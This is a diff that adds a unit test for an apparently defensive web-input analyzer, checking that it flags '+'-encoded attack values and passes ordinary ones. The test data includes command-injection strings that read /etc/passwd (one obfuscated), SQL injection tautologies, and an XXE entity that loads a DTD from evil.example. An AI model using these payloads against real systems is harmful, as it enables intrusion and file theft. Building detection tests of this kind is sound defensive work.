@@ -51,3 +51,22 @@ test("the same text is remembered per kind and path: each place gets its own fin
   expect(analysis.analyze(at("body.a9"))).toEqual([]);
   expect(analysis.analyze(at("query.next")).map((f) => f.rule)).toEqual(["by-path.next"]);
 });
+
+test("a value with `+` for its spaces is read both ways by every analyzer, with spans on the value", () => {
+  const analysis = new LeafAnalysis();
+  const strongest = (text: string) => analysis.analyze(leaf(text)).reduce((m, f) => Math.max(m, f.strength), 0);
+  // `%2B` in a query is a `+` in the value: one word to its language, its language after a second decoding.
+  for (const v of ["x;cat+/etc/passwd", "+|+dir+c:\\", "host.example;c$!at+/et$!c/pas$!swd", "'+or+'1'='1", "1))+OR+1=1--", '<!DOCTYPE+x+[<!ENTITY+%+e+SYSTEM+"http://evil.example/x.dtd">+%e;]>']) {
+    expect(strongest(v)).toBeGreaterThanOrEqual(0.8);
+  }
+  const found = analysis.analyze(leaf("x;cat+/etc/passwd")).find((f) => f.class === "cmdi")!;
+  expect("x;cat+/etc/passwd".slice(found.start, found.end)).toBe(";cat+/etc/passwd");
+  // Plus signs of ordinary values read as spaces are still ordinary.
+  for (const v of ["c++;about+us", "C++;C#;Java", "tom+jerry;cats+dogs", "+1-555-0100", "a+b=c", "2+2=4;3+3=6"]) expect(strongest(v)).toBeLessThan(0.5);
+  // A value with a space of its own was decoded already: its `+` is a plus, read once.
+  let reads = 0;
+  const counting = new LeafAnalysis([{ name: "count", analyze: () => (reads++, []) }]);
+  counting.analyze(leaf("a+b c"));
+  counting.analyze(leaf("x+y"));
+  expect(reads).toBe(3);
+});
